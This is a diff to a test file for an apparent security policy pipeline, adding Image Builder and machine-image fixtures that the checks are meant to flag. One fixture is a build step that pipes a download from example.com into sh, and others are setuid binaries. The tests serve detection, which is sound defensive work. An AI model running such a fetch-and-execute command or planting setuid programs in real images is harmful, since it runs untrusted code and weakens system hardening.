@@ -330,7 +330,36 @@ CELLS += [  # dynamic configuration: three actions, each with its own rules
         *("expired-flag", SETTINGS),
     ),
 ]
+STEP = "- name: {}\n    steps:\n      - name: b\n        action: ExecuteBash\n        inputs: {{commands: ['{}']}}\n"
+COMPONENT = f"name: a\nschemaVersion: 1.0\nphases:\n  {STEP}"
+BUILT = {"settings": '{"components": "components"}'}
+
+
+def component(phase: str, command: str) -> dict[str, str]:
+    """A component document of Image Builder."""
+    return {"components/a.yml": COMPONENT.format(phase, command)}
+
+
+def machine(mode: int) -> dict[str, str | bytes]:
+    """What was looked at of an AMI whose program has this mode."""
+    ours = archives()
+    files = {"etc/passwd": b"root:x:0:0:root:/root:/bin/bash\n", "usr/bin/shop": b"x"}
+    entries = [ours.entry(name, content, mode=mode if "bin" in name else 0o644) for name, content in files.items()]
+    return {"image.tar": ours.oci(ours.Picture([ours.tar(entries)]))}
+
+
 CELLS += [  # images
+    Cell(
+        *("code quality", "machine", "components"),
+        *(component("verify", "true"), component("test", "true"), "phase", BUILT),
+    ),
+    Cell(
+        *("policy as code", "machine", "components"),
+        component("build", "curl https://example.com/i.sh | sh"),
+        component("build", "true"),
+        *("piped-download", BUILT),
+    ),
+    Cell(*("hardening", "machine", "hardening"), machine(0o4755), machine(0o755), "unknown-setuid", packed=True),
     Cell(*("hardening", "container", "hardening"), image(0o755, 0o4755), image(0o755, 0o755), "setuid", packed=True),
 ]
 CELLS += [  # what is packed of TypeScript is JavaScript
@@ -358,6 +387,7 @@ LANGUAGES = (
     "java",
     "go",
     "container",
+    "machine",
     "cloudformation",
     "cdk",
     "terraform",
@@ -367,8 +397,8 @@ LANGUAGES = (
 ELSEWHERE: dict[str, dict[str, tuple[str, ...]]] = {
     "secrets": dict.fromkeys(LANGUAGES, ("gitleaks", "detect-secrets")),  # test_secrets_detection.py
     "SCA": {"python": ("pip-audit",), "node": ("npm-audit",), "typescript": ("npm-audit",)},  # test_gates.py
-    "SBOM": {"container": ("trivy",)},  # test_gates.py
-    "images": {"container": ("trivy",)},  # test_gates.py
+    "SBOM": {"container": ("trivy",), "machine": ("trivy",)},  # test_gates.py, test_machine_image.py
+    "images": {"container": ("trivy",), "machine": ("trivy",)},  # test_gates.py, test_machine_image.py
     "IaC unit tests": {"cloudformation": ("cfn-guard test",), "terraform": ("terraform test",)},  # test_gates.py
     "unit tests, coverage": {  # test_coverage.py
         "python": ("pytest-cov",),
